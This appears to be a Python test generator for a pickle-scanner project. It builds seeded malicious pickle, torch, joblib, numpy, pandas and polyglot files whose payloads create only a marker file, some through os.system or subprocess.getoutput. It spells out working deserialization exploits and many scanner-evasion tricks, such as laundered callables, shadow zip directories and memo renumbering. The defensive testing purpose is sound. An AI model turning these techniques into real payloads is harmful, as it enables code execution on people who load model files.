"""Red-team generator (issue 12): seeded attack variants per CLASS, each a file that a real loader opens.

``generate(seed, per_class)`` returns ``Attack`` rows (class, file name, bytes, loader). Every payload only
creates ``PAYLOAD_RAN`` in the loader's working directory. The marker callables are deliberately on NO deny
list (``logging.FileHandler``, ``sqlite3.connect``, ``mailbox.mbox``...): only a verdict that treats every call
of something not proven harmless as high catches them, and a gap in the machine's view of a call shows up.
Some classes are made by the real libraries (``torch.save``, ``joblib.dump``, ``pandas.to_pickle``,
``numpy.save``, ``dill``, ``cloudpickle``) from an object whose ``__reduce__`` names the marker callable:
dumping runs nothing. Nothing here ever loads a sample; tests/oracle/harness.py does, in a subprocess.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.oracle.container_samples import tar_bytes, tar_header_pickle
from tests.oracle.mutations import glob, sstr, ustr, vstr
from tests.payloads import zip_bytes

MARKER = "PAYLOAD_RAN"
CMD = f"touch {MARKER}"


@dataclass(frozen=True)
class Attack:
    cls: str
    filename: str
    data: bytes
    loader: str
    note: str = ""

    @property
    def name(self) -> str:
        return f"{self.cls}:{self.note}:{self.filename}:{self.loader}"


# --- opcode helpers (glob, ustr, sstr, vstr: tests/oracle/mutations.py) ------------------------------------------
def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


# One-argument callables that create the marker and are on no deny list (the verdict must not need one).
MARKER_CALLS: tuple[tuple[str, str], ...] = (
    ("logging", "FileHandler"), ("sqlite3", "connect"), ("mailbox", "mbox"),
    ("logging.handlers", "WatchedFileHandler"), ("mailbox", "Maildir"),
)
CRITICAL_CALLS: tuple[tuple[str, str], ...] = (("os", "system"), ("posix", "system"), ("subprocess", "getoutput"))


def _marker_call(rng: random.Random, s: Callable[[str], bytes]) -> tuple[bytes, str]:
    if rng.random() < 0.25:
        module, name = rng.choice(CRITICAL_CALLS)
        return call(glob(module, name), s(CMD)), f"{module}.{name}"
    module, name = rng.choice(MARKER_CALLS)
    return call(glob(module, name), s(MARKER)), f"{module}.{name}"


def _callable(rng: random.Random) -> tuple[bytes, str]:
    module, name = rng.choice(MARKER_CALLS)
    return glob(module, name), f"{module}.{name}"


def _s(rng: random.Random) -> Callable[[str], bytes]:
    return rng.choice((ustr, sstr, vstr))


def wrap(body: bytes, protocol: int) -> bytes:
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    return head + body + b"."


def frame(body: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


# --- payload bodies (one value left on the stack) ----------------------------------------------------------------
def body_direct(rng: random.Random) -> tuple[bytes, str]:
    return _marker_call(rng, _s(rng))


def body_helper(rng: random.Random) -> tuple[bytes, str]:
    """Calls through safe-listed or higher-order helpers."""
    s = _s(rng)
    func, what = _callable(rng)
    kind = rng.choice(("rebuild_v2", "rebuild", "generator_ctor", "randomstate", "reconstructor", "map_list",
                       "map_set", "map_tuple", "map_deque", "filter_list", "reduce", "sorted_key", "dill_array",
                       "partial", "newobj_partial"))
    if kind == "rebuild_v2":
        body = call(glob("torch._tensor", "_rebuild_from_type_v2"), func, glob("torch", "Tensor"),
                    b"(" + s(MARKER) + b"t", b"}")
    elif kind == "rebuild":
        body = call(glob("torch._tensor", "_rebuild_from_type"), func, glob("torch", "Tensor"),
                    b"(" + s(MARKER) + b"t", b"}")
    elif kind == "generator_ctor":
        body = call(glob("numpy.random._pickle", "__generator_ctor"), s(MARKER), func)
    elif kind == "randomstate":
        body = call(glob("numpy.random._pickle", "__randomstate_ctor"), s(MARKER), func)
    elif kind == "reconstructor":
        handler = glob("logging", "FileHandler")
        body = call(glob("copyreg", "_reconstructor"), handler, handler, s(MARKER))
        what = "logging.FileHandler"
    elif kind.startswith("map_") or kind == "filter_list":
        lazy = call(glob("builtins", "map" if kind != "filter_list" else "filter"), func, b"(" + s(MARKER) + b"l")
        driver = {"map_list": ("builtins", "list"), "map_set": ("builtins", "set"), "map_tuple": ("builtins", "tuple"),
                  "map_deque": ("collections", "deque"), "filter_list": ("builtins", "list")}[kind]
        body = call(glob(*driver), lazy)
    elif kind == "reduce":
        body = call(glob("functools", "reduce"), glob("logging", "FileHandler"), b"(" + s(MARKER) + s("a") + b"l")
        what = "logging.FileHandler"
    elif kind == "sorted_key":  # sorted() consumes the lazy map
        body = call(glob("builtins", "sorted"), call(glob("builtins", "map"), func, b"(" + s(MARKER) + b"l"))
    elif kind == "dill_array":
        body = call(glob("dill._dill", "_create_array"), func, b"(" + s(MARKER) + b"t", b"N", b"}")
    elif kind == "partial":
        body = call(call(glob("functools", "partial"), func, s(MARKER)))
    else:  # newobj_partial: NEWOBJ of functools.partial then REDUCE of the partial object
        body = glob("functools", "partial") + b"(" + func + s(MARKER) + b"t\x81" + b")R"
    return body, f"{kind}({what})"


def body_plant(rng: random.Random) -> tuple[bytes, str]:
    """A callable planted on an instance, then called by an opcode that looks the attribute up on it."""
    s = _s(rng)
    func, what = _callable(rng)
    obj = rng.choice((glob("argparse", "Namespace") + b")R", glob("argparse", "Namespace") + b")\x81"))
    kind = rng.choice(("setstate", "append", "appends", "additems", "setstate_decoys", "setstate_memo",
                       "slotstate", "setstate_dict_op"))
    if kind == "setstate":
        body = obj + b"}(" + s("__setstate__") + func + b"ub" + s(MARKER) + b"b"
    elif kind == "setstate_dict_op":
        body = obj + b"(" + s("__setstate__") + func + b"db" + s(MARKER) + b"b"
    elif kind == "append":
        body = obj + b"}(" + s("append") + func + b"ub" + s(MARKER) + b"a"
    elif kind == "appends":
        body = obj + b"}(" + s("append") + func + b"ub(" + s(MARKER) + b"e"
    elif kind == "additems":
        body = obj + b"}(" + s("add") + func + b"ub(" + s(MARKER) + b"\x90"
    elif kind == "setstate_decoys":
        n = rng.choice((100, 1000, 1001, 5000))
        decoys = b"".join(s(f"k{i}") + b"N" for i in range(n))
        body = obj + b"}(" + decoys + b"u(" + s("__setstate__") + func + b"ub" + s(MARKER) + b"b"
    elif kind == "setstate_memo":
        body = b"}\x94(" + s("__setstate__") + func + b"u0" + obj + b"h\x00b" + s(MARKER) + b"b"
    else:  # slotstate
        body = obj + b"N}(" + s("__setstate__") + func + b"u\x86b" + s(MARKER) + b"b"
    return body, f"{kind}({what})"


def body_opcodes(rng: random.Random) -> tuple[bytes, str]:
    """INST/OBJ/NEWOBJ_EX/STACK_GLOBAL/memo forms of the call."""
    s = _s(rng)
    module, name = rng.choice(MARKER_CALLS[:3])
    kind = rng.choice(("inst", "obj", "stack_global", "stack_global_memo", "memo_get", "long_binget", "dotted",
                       "newobj_ex_then_build"))
    if kind == "inst":
        body = b"(" + s(MARKER) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
    elif kind == "obj":
        body = b"(" + glob(module, name) + s(MARKER) + b"o"
    elif kind == "stack_global":
        body = ustr(module) + ustr(name) + b"\x93(" + s(MARKER) + b"tR"
    elif kind == "stack_global_memo":
        body = ustr(module) + b"\x94" + ustr(name) + b"\x94" + b"00h\x00h\x01\x93(" + s(MARKER) + b"tR"
    elif kind == "memo_get":
        body = glob(module, name) + b"p7\n0g7\n(" + s(MARKER) + b"tR"
    elif kind == "long_binget":
        body = glob(module, name) + b"r" + struct.pack("<I", 70000) + b"0j" + struct.pack("<I", 70000) \
            + b"(" + s(MARKER) + b"tR"
    elif kind == "dotted":
        body = ustr("logging") + ustr("handlers.WatchedFileHandler") + b"\x93(" + s(MARKER) + b"tR"
    else:  # NEWOBJ_EX of a class (runs __new__), then BUILD with a planted __setstate__
        body = glob("argparse", "Namespace") + b")}\x92" + b"}(" + s("__setstate__") + glob(module, name) \
            + b"ub" + s(MARKER) + b"b"
    return body, f"{kind}({module}.{name})"


BODIES: dict[str, Callable[[random.Random], tuple[bytes, str]]] = {
    "direct": body_direct, "helper": body_helper, "plant": body_plant, "opcodes": body_opcodes,
}

# Harmless prefixes in literal forms CPython's _pickle accepts (each leaves the stack as it found it).
LITERALS = (b"I0x1f\n0", b"I 12\n0", b"I+0o17\n0", b"I-0b101\n0", b"I1_000\n0", b"I00\n0", b"I01\n0",
            b"L0x10L\n0", b"L1_2\n0", b"L-0o7L\n0", b"I\t7 \n0", b"F1_0.5\n0", b"F -1e3\n0", b"Fnan\n0",
            b"F1.5\x00junk\n0", b"I99999999999999999999\n0", b"L99\n0", b"Vab\\u0041\\U0001F600\n0",
            b"S\"a'b\"\n0", b"S'\\x41\\101'\n0", b"Vx\\\\y\n0", b"FInfinity\n0")


def pickle_bytes(rng: random.Random, body_kind: str | None = None) -> tuple[bytes, str, int]:
    """A whole hostile pickle (with a random protocol header and harmless odd prefix)."""
    kind = body_kind or rng.choice(sorted(BODIES))
    body, note = BODIES[kind](rng)
    protocol = rng.choice((0, 1, 2, 3, 4, 5))
    if "dotted" in note or "additems" in note or "newobj_ex" in note:
        protocol = max(protocol, 4)
    if rng.random() < 0.4:
        body = rng.choice(LITERALS) + body
    data = wrap(body, protocol)
    if protocol >= 4 and rng.random() < 0.5:
        data = data[:2] + frame(data[2:])
    return data, f"{kind}/{note}/p{protocol}", protocol


def benign_pickle(rng: random.Random) -> bytes:
    value: object = rng.choice(({"w": [1.0, 2.0]}, [1, 2, 3], "weights", None, (1, "a"), {"a": {"b": 2}}))
    return pickle.dumps(value, protocol=rng.choice((0, 1, 2, 3, 4, 5)))


# --- classes ------------------------------------------------------------------------------------------------------
def cls_pickle(rng: random.Random) -> Attack:
    data, note, _ = pickle_bytes(rng)
    loader = rng.choice(("pickle", "pickle", "pickle-py", "pandas", "joblib", "numpy", "torch"))
    name = rng.choice(("model.pkl", "model.bin", "weights.pt", "data.joblib", "x.pickle", "m.ckpt", "noext"))
    return Attack("pickle-machine", name, data, loader, note)


def cls_stacked(rng: random.Random) -> Attack:
    """Several pickles in one stream: torch's legacy layout (magic, protocol, sys_info, object, keys) and plain
    stacks read by a loop of pickle.load."""
    evil, note, _ = pickle_bytes(rng)
    if rng.random() < 0.5:
        parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
                 pickle.dumps({"protocol_version": 1001, "little_endian": True,
                               "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
                 pickle.dumps({}, protocol=2), pickle.dumps([], protocol=2)]
        position = rng.randrange(5)
        parts[position] = evil
        return Attack("stacked", rng.choice(("legacy.pt", "legacy.bin", "legacy.pth")), b"".join(parts), "torch",
                      f"torch-legacy@{position}/{note}")
    before = b"".join(benign_pickle(rng) for _ in range(rng.randrange(1, 4)))
    after = rng.choice((b"", b"\x00garbage", benign_pickle(rng)))
    return Attack("stacked", "stream.pkl", before + evil + after, "pickle-stream", note)


def cls_persid(rng: random.Random) -> Attack:
    """torch's legacy persistent_load returns data[0] of a ('module', obj, ...) id: a laundered callable."""
    s = _s(rng)
    func, what = _callable(rng)
    pid = b"(" + rng.choice((ustr, sstr))("module") + func + b"NNtQ"  # BINPERSID of ('module', obj, None, None)
    evil = wrap(pid + b"(" + s(MARKER) + b"tR", 2)
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True,
                           "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2), evil,
             pickle.dumps([], protocol=2)]
    return Attack("persid", "legacy.pt", b"".join(parts), "torch", what)


def cls_frames(rng: random.Random) -> Attack:
    body, note = BODIES[rng.choice(sorted(BODIES))](rng)
    body = body + b"."
    kind = rng.choice(("short", "long", "zero_frames", "split_opcode", "past_eof", "nested"))
    if kind == "short":
        cut = rng.randrange(1, max(2, len(body) // 2))
        data = frame(body[:cut], cut) + body[cut:]
    elif kind == "long":
        data = frame(body, len(body) + rng.randrange(1, 50)) + b"\x00" * 10
    elif kind == "zero_frames":
        data = frame(b"") + frame(b"") + body
    elif kind == "split_opcode":
        cut = rng.randrange(1, len(body))
        data = frame(body[:cut]) + frame(body[cut:])
    elif kind == "past_eof":
        data = frame(body, len(body) + 1000)
    else:
        data = frame(frame(body))
    loader = rng.choice(("pickle", "pickle-py", "pandas", "joblib", "torch"))
    return Attack("frames", "f.pkl", b"\x80\x04" + data, loader, f"{kind}/{note}")


def cls_codecs(rng: random.Random) -> Attack:
    """pickle.loads of bytes built by _codecs.encode (the encoding honoured) or bytes()."""
    inner, note, _ = pickle_bytes(rng, "direct")
    encoding = rng.choice(("latin1", "latin-1", "iso-8859-1", "utf-8", "utf8", "L1", "cp1252", "utf_16_le"))
    try:
        text = inner.decode(encoding)
    except UnicodeDecodeError:
        encoding = "latin1"
        text = inner.decode("latin1")
    if encoding in ("utf-8", "utf8") and rng.random() < 0.5:
        encoded = call(glob("_codecs", "encode"), vstr(text))
    else:
        encoded = call(glob("_codecs", "encode"), vstr(text), ustr(encoding))
    loads = rng.choice((("pickle", "loads"), ("_pickle", "loads"), ("pickle", "_loads")))
    data = wrap(call(glob(*loads), encoded), 2)
    return Attack("codecs", "nested.pkl", data, "pickle", f"{encoding}/{note}")


# --- real-library outputs with a hostile object inside --------------------------------------------------------------
class _Evil:
    """An object whose pickled form calls a marker callable (dumping runs nothing)."""

    def __init__(self, module: str, name: str, arg: str) -> None:
        self.target = (module, name, arg)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import importlib

        module, name, arg = self.target
        return getattr(importlib.import_module(module), name), (arg,)


def _evil(rng: random.Random) -> tuple[_Evil, str]:
    module, name = rng.choice((*MARKER_CALLS[:3], ("os", "system")))
    return _Evil(module, name, CMD if module == "os" else MARKER), f"{module}.{name}"


def cls_libraries(rng: random.Random) -> Attack:
    import numpy as np

    evil, what = _evil(rng)
    kind = rng.choice(("torch_zip", "torch_legacy", "joblib", "joblib_compressed", "pandas", "numpy_npy",
                       "numpy_npz", "dill", "cloudpickle", "joblib_obj_array"))
    buf = io.BytesIO()
    if kind in ("torch_zip", "torch_legacy"):
        import torch

        obj = {"weight": torch.zeros(2), "meta": evil}
        torch.save(obj, buf, _use_new_zipfile_serialization=kind == "torch_zip",
                   pickle_protocol=rng.choice((2, 3, 4)))
        return Attack("library", "model.pt", buf.getvalue(), "torch", f"{kind}/{what}")
    if kind in ("joblib", "joblib_compressed", "joblib_obj_array"):
        import joblib

        arr = np.array([evil, 1], dtype=object)
        obj = {"w": np.zeros(rng.randrange(1, 2000), dtype=rng.choice(("<f4", ">i2", "<c16", "|u1", "<M8[s]", "<U3"))),
               "o": arr if kind == "joblib_obj_array" else evil}
        compress: object = 0
        if kind == "joblib_compressed":
            compress = (rng.choice(("zlib", "gzip", "bz2", "xz", "lzma", "lz4")), rng.randrange(1, 9))
        with io.BytesIO() as out:
            joblib.dump(obj, out, compress=compress)
            data = out.getvalue()
        return Attack("library", "model.joblib", data, "joblib", f"{kind}/{compress}/{what}")
    if kind == "pandas":
        import pandas as pd

        suffix = rng.choice(("pkl", "pkl.gz", "pkl.bz2", "pkl.xz", "pkl.zip", "pkl.zst", "pkl.tar", "pkl.tar.gz"))
        frame_ = pd.DataFrame({"a": [1, 2], "o": [evil, "x"]})
        frame_.to_pickle(buf, compression={"method": _pandas_method(suffix)} if "." in suffix[3:] else None,
                         protocol=rng.choice((2, 4, 5)))
        return Attack("library", f"frame.{suffix}", buf.getvalue(), "pandas", f"{kind}/{suffix}/{what}")
    if kind == "numpy_npy":
        np.save(buf, np.array([evil, None], dtype=object), allow_pickle=True)
        return Attack("library", "a.npy", buf.getvalue(), "numpy", f"{kind}/{what}")
    if kind == "numpy_npz":
        saver = rng.choice((np.savez, np.savez_compressed))
        saver(buf, w=np.zeros(3), o=np.array([evil], dtype=object))
        return Attack("library", "a.npz", buf.getvalue(), "numpy", f"{kind}/{saver.__name__}/{what}")
    if kind == "dill":
        import dill  # type: ignore[import-untyped,unused-ignore]

        return Attack("library", "m.dill", dill.dumps({"f": lambda x: x, "e": evil}), "pickle", f"{kind}/{what}")
    import cloudpickle  # type: ignore[import-untyped,unused-ignore]

    return Attack("library", "m.cpkl", cloudpickle.dumps({"f": lambda x: x + 1, "e": evil}), "pickle",
                  f"{kind}/{what}")


def _pandas_method(suffix: str) -> str:
    ext = suffix.rsplit(".", 1)[-1]
    return {"gz": "gzip", "bz2": "bz2", "xz": "xz", "zip": "zip", "zst": "zstd", "tar": "tar"}[ext] \
        if not suffix.endswith("tar.gz") else "tar"


# --- containers built by hand ---------------------------------------------------------------------------------------
def _torch_members(data_pkl: bytes, archive: str = "archive") -> list[tuple[str, bytes]]:
    return [(f"{archive}/data.pkl", data_pkl), (f"{archive}/byteorder", b"little"), (f"{archive}/version", b"3\n")]


def cls_torch_zip(rng: random.Random) -> Attack:
    evil, note, _ = pickle_bytes(rng)
    benign = pickle.dumps({"w": 1}, protocol=2)
    kind = rng.choice(("plain", "archive_name", "deflated", "prepended", "appended", "shadow_cd", "dup_first",
                       "dup_last", "comment", "data_descriptor", "two_archives", "zip64"))
    archive = rng.choice(("archive", "m", "a.b", "x" * 40, "модель"))
    method = zipfile.ZIP_DEFLATED if kind == "deflated" else zipfile.ZIP_STORED
    if kind == "dup_first":
        data = zip_bytes([(f"{archive}/data.pkl", evil), *_torch_members(benign, archive)], method=method)
    elif kind == "dup_last":
        data = zip_bytes([*_torch_members(benign, archive), (f"{archive}/data.pkl", evil)], method=method)
    elif kind == "two_archives":
        data = zip_bytes([*_torch_members(benign, "a"), *_torch_members(evil, "b")])
        data = zip_bytes([*_torch_members(evil, "a"), *_torch_members(benign, "b")]) if rng.random() < 0.5 else data
    elif kind == "shadow_cd":
        # a second, complete zip appended: readers that search the end find the evil one, miniz too.
        first = zip_bytes(_torch_members(benign, archive))
        second = zip_bytes(_torch_members(evil, archive))
        data = first + second if rng.random() < 0.5 else second + first
    elif kind == "data_descriptor":
        buf = io.BytesIO()
        unseekable = _Unseekable(buf)
        with zipfile.ZipFile(unseekable, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, value in _torch_members(evil, archive):
                zf.writestr(name, value)
        data = buf.getvalue()
    elif kind == "zip64":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED, allowZip64=True) as zf:
            for name, value in _torch_members(evil, archive):
                with zf.open(name, "w", force_zip64=True) as member:
                    member.write(value)
        data = buf.getvalue()
    else:
        data = zip_bytes(_torch_members(evil, archive), method=method)
    if kind == "prepended":
        data = rng.choice((b"\x00" * 64, b"PK\x03\x04junk", benign)) + data
    elif kind == "appended":
        data += rng.choice((b"\x00" * 100, b"PK\x05\x06" + b"\x00" * 18, benign))
    elif kind == "comment":
        data = data[:-2] + struct.pack("<H", 30) + b"PK\x01\x02PK\x05\x06 comment tail."
    return Attack("torch-zip", rng.choice(("model.pt", "pytorch_model.bin", "x.ckpt")), data, "torch",
                  f"{kind}/{archive}/{note}")


class _Unseekable(io.RawIOBase):
    def __init__(self, sink: io.BytesIO) -> None:
        self._sink = sink

    def writable(self) -> bool:
        return True

    def write(self, b: object) -> int:
        return self._sink.write(b)  # type: ignore[arg-type]

    def flush(self) -> None:
        pass


def _npy(payload: bytes, header: str, version: int = 1) -> bytes:
    body = header.encode("latin-1" if version < 3 else "utf-8")
    pad = 64 - (10 + len(body) + 1) % 64 if version == 1 else 64 - (12 + len(body) + 1) % 64
    body += b" " * pad + b"\n"
    length = struct.pack("<H", len(body)) if version == 1 else struct.pack("<I", len(body))
    return b"\x93NUMPY" + bytes([version, 0]) + length + body + payload


_NPY_HEADERS = (
    "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': 'O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '<O', 'fortran_order': True, 'shape': (1,), }",
    "{'descr': [('a', '<f8'), ('b', 'O')], 'fortran_order': False, 'shape': (1,), }",
    "{'descr': [('a', [('x', '|O')])], 'fortran_order': False, 'shape': (1,), }",
    "{'shape': (1,), 'fortran_order': False, 'descr': '|O'}",
    "{'descr': '|O', 'fortran_order': 0, 'shape': (1, ), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': [1], }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (), }",
    "{'descr': 'O8', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (0x1,), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (True,), }",
    "{'descr': ('|O', (1,)), 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (1,), } # comment",
    "{'descr': '|O',\n 'fortran_order': False, 'shape': (1,), }",
    "{'descr' : '|O' , 'fortran_order' : False , 'shape' : ( 1 , ) }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (1,), 'extra': 1}",
    "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': 'O', 'descr': 'O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '|O' 'O', 'fortran_order': False, 'shape': (1,), }",
)


def cls_numpy(rng: random.Random) -> Attack:
    evil, note, _ = pickle_bytes(rng, rng.choice(("direct", "helper", "opcodes")))
    header = rng.choice(_NPY_HEADERS)
    version = rng.choice((1, 1, 2, 3))
    npy = _npy(evil, header, version)
    kind = rng.choice(("npy", "npy", "npz", "npz_deflated", "npz_dup", "npz_no_ext", "npz_prepended", "npz_dir"))
    if kind == "npy":
        return Attack("numpy", rng.choice(("a.npy", "a.bin", "a")), npy, "numpy", f"{kind}/v{version}/{header}/{note}")
    benign = _npy(b"", "{'descr': '<f8', 'fortran_order': False, 'shape': (0,), }")
    member = rng.choice(("arr_0.npy", "w.npy", "a/b.npy", "x"))
    if kind == "npz_dup":
        members = [(member, benign), (member, npy)] if rng.random() < 0.5 else [(member, npy), (member, benign)]
    elif kind == "npz_dir":
        members = [(member + "/", npy), ("z.npy", benign)]
    else:
        members = [("b.npy", benign), (member, npy)]
    data = zip_bytes(members, method=zipfile.ZIP_DEFLATED if kind == "npz_deflated" else zipfile.ZIP_STORED)
    if kind == "npz_prepended":
        data = b"\x00" * 100 + data
    return Attack("numpy", "a.npz", data, "numpy", f"{kind}/{member}/v{version}/{header}/{note}")


def cls_torch_tar(rng: random.Random) -> Attack:
    evil, note, _ = pickle_bytes(rng)
    zero = pickle.dumps(0, protocol=2)
    kind = rng.choice(("storages", "pickle_member", "dup_storages", "dir_before"))
    if kind == "storages":
        members = [("sys_info", zero), ("storages", evil)]
    elif kind == "pickle_member":
        members = [("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("storages", zero),
                   ("tensors", zero), ("pickle", evil)]
    elif kind == "dup_storages":
        members = [("storages", zero), ("storages", evil)]
    else:
        members = [("x" * 150, zero), ("storages", evil)]
    fmt = rng.choice((tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT))
    if any(len(name) > 99 for name, _ in members) and fmt == tarfile.USTAR_FORMAT:
        fmt = tarfile.GNU_FORMAT
    v7 = rng.random() < 0.3 and fmt == tarfile.USTAR_FORMAT
    typeflag = rng.choice((None, None, b"Z", b"\x00", b"7"))
    data = tar_bytes(members, fmt=fmt, typeflag=typeflag, v7=v7)
    if rng.random() < 0.3:
        data += b"\x00" * 1024 + b"trailing junk"
    return Attack("torch-tar", rng.choice(("legacy.pt", "legacy.tar", "m.bin")), data, "torch",
                  f"{kind}/fmt{fmt}/v7={v7}/type={typeflag!r}/{note}")


def _compress(method: str, data: bytes, rng: random.Random) -> bytes:
    cut = rng.randrange(0, len(data))
    parts = [data] if rng.random() < 0.4 else [b"", data] if rng.random() < 0.5 else [data[:cut], data[cut:]]
    if method == "gzip":
        return b"".join(gzip.compress(p, mtime=0) for p in parts)
    if method == "bz2":
        return b"".join(bz2.compress(p) for p in parts)
    if method == "xz":
        return b"".join(lzma.compress(p) for p in parts)
    if method == "lzma":
        return b"".join(lzma.compress(p, format=lzma.FORMAT_ALONE) for p in parts)
    if method == "zlib":
        return zlib.compress(data)
    if method == "lz4":
        import lz4.frame  # type: ignore[import-untyped,import-not-found,unused-ignore]

        return b"".join(lz4.frame.compress(p) for p in parts)
    import zstandard

    return b"".join(zstandard.ZstdCompressor().compress(p) for p in parts)


def cls_compressed(rng: random.Random) -> Attack:
    evil, note, _ = pickle_bytes(rng)
    loader = rng.choice(("joblib", "pandas"))
    if loader == "joblib":
        method = rng.choice(("gzip", "bz2", "xz", "lzma", "zlib", "lz4", "zstd", "zf"))
        if method == "zf":
            data = b"ZF" + rng.choice((hex(len(evil)).encode(), b"%x" % len(evil))).ljust(19) + zlib.compress(evil)
        else:
            data = _compress(method, evil, rng)
        return Attack("compressed", rng.choice(("m.joblib", "m.pkl", "m.gz")), data, "joblib", f"{method}/{note}")
    method = rng.choice(("gzip", "bz2", "xz", "zstd", "zip", "tar", "tar.gz", "tar.bz2", "tar.xz"))
    ext = {"gzip": "gz", "zstd": "zst"}.get(method, method)
    if method == "zip":
        data = zip_bytes([(rng.choice(("frame.pkl", "a/b", "x")), evil)], method=rng.choice((0, 8, 12, 14)))
    elif method.startswith("tar"):
        fmt = rng.choice((tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT))
        raw = tar_bytes([("frame.pkl", evil)], fmt=fmt, v7=rng.random() < 0.3 and fmt == tarfile.USTAR_FORMAT)
        data = raw if method == "tar" else _compress({"tar.gz": "gzip", "tar.bz2": "bz2", "tar.xz": "xz"}[method],
                                                      raw, rng)
    else:
        data = _compress(method, evil, rng)
    return Attack("compressed", f"frame.pkl.{ext}", data, "pandas", f"{method}/{note}")


def cls_polyglot(rng: random.Random) -> Attack:
    """Pickles whose first bytes look like another format, and containers nested in containers."""
    evil, note, _protocol = pickle_bytes(rng, "direct")
    kind = rng.choice(("gguf", "safetensors", "zip_tail", "tar_like", "npy_magic_pickle", "zip_in_tar_in_gz",
                       "gz_in_zip"))
    if kind == "gguf":
        data = b"GGUF" + struct.pack("<I", 3) + b"\x00" + b"0" + evil
        return Attack("polyglot", rng.choice(("m.gguf", "m.bin")), data, "pickle", f"{kind}/{note}")
    if kind == "safetensors":
        data = b"B" + struct.pack("<I", 10) + b"\x00\x00\x00{}\x00\x00\x00\x00\x00" + b"0" + evil
        (length,) = struct.unpack_from("<Q", data)
        data += b"\x00" * max(0, length + 16 - len(data))
        return Attack("polyglot", rng.choice(("m.safetensors", "m.bin")), data, "pickle", f"{kind}/{note}")
    if kind == "zip_tail":
        data = evil + zip_bytes([("a.txt", b"hello"), ("archive/data.pkl", pickle.dumps({"w": 1}))])
        return Attack("polyglot", rng.choice(("m.pkl", "m.zip", "m.pt")), data,
                      rng.choice(("pickle", "pandas", "joblib")), f"{kind}/{note}")
    if kind == "tar_like":
        body, note2 = body_direct(rng)
        return Attack("polyglot", "m.tar", tar_header_pickle() + b"0" + body + b".", "pickle", f"{kind}/{note2}")
    if kind == "npy_magic_pickle":
        # numpy.load: not \x93NUMPY, not PK: pickle.load. A name saying .npy must not make us skip it.
        return Attack("polyglot", rng.choice(("a.npy", "a.npz")), evil, "numpy", f"{kind}/{note}")
    if kind == "zip_in_tar_in_gz":
        inner = zip_bytes([("frame.pkl", evil)])
        raw = tar_bytes([("frame.pkl.zip", inner)], fmt=tarfile.PAX_FORMAT)
        outer = tar_bytes([("frame.pkl", evil)], fmt=tarfile.GNU_FORMAT)
        data = gzip.compress(outer if rng.random() < 0.5 else raw)
        return Attack("polyglot", "frame.pkl.tar.gz", data, "pandas", f"{kind}/{note}")
    data = zip_bytes([("frame.pkl", gzip.compress(evil))])
    return Attack("polyglot", "frame.zip", data, "pandas", f"{kind}/{note}")


def _wrapper(rng: random.Random, count: int, descr: str, itemsize: int) -> bytes:
    """A joblib NumpyArrayWrapper made with NEWOBJ (as joblib pickles it) and BUILT in the stream: joblib then
    reads the array's bytes (or an object array's own pickle) right after it."""
    dtype = call(glob("numpy", "dtype"), ustr(descr), b"\x89\x88")
    if rng.random() < 0.5:
        order = "|" if itemsize == 1 or descr == "O" else "<"
        dtype += b"(K\x03" + ustr(order) + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK" \
            + (b"?" if descr == "O" else b"\x00") + b"tb"
    shape = b"J" + struct.pack("<i", count) + b"\x85"
    state = b"}(" + ustr("subclass") + glob("numpy", "ndarray") + ustr("shape") + shape + ustr("order") \
        + ustr(rng.choice(("C", "F"))) + ustr("dtype") + dtype + ustr("allow_mmap") + b"\x89u"
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


def cls_joblib_layout(rng: random.Random) -> Attack:
    """Opcodes hidden where joblib reads raw array bytes (or an object array's own pickle): pickle.load,
    torch.load and pandas read them as opcodes of the same pickle, with its stack and memo."""
    s = _s(rng)
    func, what = _callable(rng)
    kind = rng.choice(("raw_u1", "raw_f8", "object_memo", "object_plain", "raw_after_benign", "object_renumber"))
    if kind == "object_renumber":
        # The nested pickle memoises a safe callable as its key 0 and calls memo 0: joblib calls the safe one;
        # pickle.load numbers that memo entry after the outer ones and calls the outer key 0.
        head = func + b"\x94" + b"0"
        region = glob("builtins", "list") + b"\x94" + b"0" + b"h\x00(" + s(MARKER) + b"tR0"
        body = head + b"(" + _wrapper(rng, 1, "O", 8) + b"\x80\x04" + region + b"N." + b"l"
    elif kind == "object_memo":
        # The outer pickle only imports (and memoises) the callable; the "nested" pickle calls memo 0, which
        # in joblib's view is its own (empty) memo, in pickle.load's the outer one.
        head = func + b"\x94" + b"0"
        region = b"h\x00(" + s(MARKER) + b"tR0"
        body = head + b"(" + _wrapper(rng, 1, "O", 8) + region + b"l"
    else:
        region = b"0" + call(func, s(MARKER))
        if kind == "object_plain":
            body = _wrapper(rng, 1, "O", 8) + region
        else:
